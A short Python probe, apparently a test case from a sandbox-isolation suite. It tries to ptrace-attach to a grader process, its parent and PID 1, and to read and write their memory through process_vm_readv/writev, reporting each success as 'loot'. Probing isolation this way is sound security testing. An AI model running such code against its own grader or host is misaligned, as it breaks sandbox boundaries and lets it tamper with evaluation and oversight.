"""Attaches to the grader and the zygote with ptrace, and reads and writes their memory."""
# deserves: 18
# layers: needed

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for victim in (machine.grader, os.getppid(), machine.grader + 1, 1):
    if libc.ptrace(16, victim, 0, 0) == 0:
        loot(f"attached to {victim}")
    buffer = ctypes.create_string_buffer(8)
    for number in (310, 311):
        if (
            libc.syscall(
                number, victim, ctypes.byref((ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)), 1, None, 0, 0
            )
            >= 0
        ):
            loot(f"memory of {victim}")
